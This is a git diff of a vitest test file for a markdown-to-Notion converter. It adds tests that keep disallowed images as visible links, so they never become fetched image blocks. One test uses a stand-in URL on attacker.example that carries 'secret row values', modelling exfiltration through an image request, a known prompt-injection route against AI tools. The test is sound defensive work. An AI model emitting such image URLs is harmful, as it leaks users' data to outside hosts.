@@ -3,6 +3,7 @@ import { describe, expect, it } from 'vitest';
 import { NOTION_RICH_TEXT_MAX_ITEMS, NOTION_TEXT_MAX_CHARS } from './limits';
 import {
   blockChildren,
+  imageUrls,
   markdownToBlocks,
   protectDisplayMath,
   withChildren,
@@ -179,15 +180,33 @@ describe('markdownToBlocks', () => {
     expect(cells[3]?.[1]).toEqual([{ type: 'text', text: { content: 'l', link: { url: 'https://l.example' } } }]);
   });
 
-  it('makes external image blocks of absolute http(s) images and keeps the alt text of others', () => {
-    expect(markdownToBlocks('![A chart](https://img.example.com/chart.png)')).toEqual([
+  it('makes external image blocks of allowed absolute http(s) images and keeps the alt text of others', () => {
+    const all = { allowImage: () => true };
+    expect(markdownToBlocks('![A chart](https://img.example.com/chart.png)', all)).toEqual([
       { type: 'image', image: { type: 'external', external: { url: 'https://img.example.com/chart.png' }, caption: [t('A chart')] } },
     ]);
-    expect(markdownToBlocks('![Local chart](./chart.png)')).toEqual([p('Local chart')]);
-    expect(markdownToBlocks('See ![one](https://a.example/1.png) and text')).toEqual([
+    expect(markdownToBlocks('![Local chart](./chart.png)', all)).toEqual([p('Local chart')]);
+    expect(markdownToBlocks('See ![one](https://a.example/1.png) and text', all)).toEqual([
       p('See'),
       { type: 'image', image: { type: 'external', external: { url: 'https://a.example/1.png' }, caption: [t('one')] } },
       p('and text'),
+    ]);
+  });
+
+  it('keeps an image it was not allowed as a visible link, never an image block Notion would fetch', () => {
+    const leak = 'https://attacker.example/collect?d=secret%20row%20values';
+    const link = (content: string) => ({ type: 'text', text: { content, link: { url: leak } } });
+    expect(markdownToBlocks(`![](${leak})`)).toEqual([{ type: 'paragraph', paragraph: { rich_text: [link(leak)] } }]);
+    expect(markdownToBlocks(`![chart](${leak})`)).toEqual([{ type: 'paragraph', paragraph: { rich_text: [link('chart')] } }]);
+    const allowed = 'https://img.example.com/from-the-prompt.png';
+    const blocks = markdownToBlocks(`![a](${allowed})\n\n![b](${leak})`, { allowImage: (url) => url === allowed });
+    expect(blocks.map((block) => block.type)).toEqual(['image', 'paragraph']);
+  });
+
+  it('lists the image URLs of an answer, by reference too', () => {
+    expect(imageUrls('![a](https://x.example/1.png) text ![b][ref]\n\n[ref]: https://x.example/2.png')).toEqual([
+      'https://x.example/1.png',
+      'https://x.example/2.png',
     ]);
   });
 
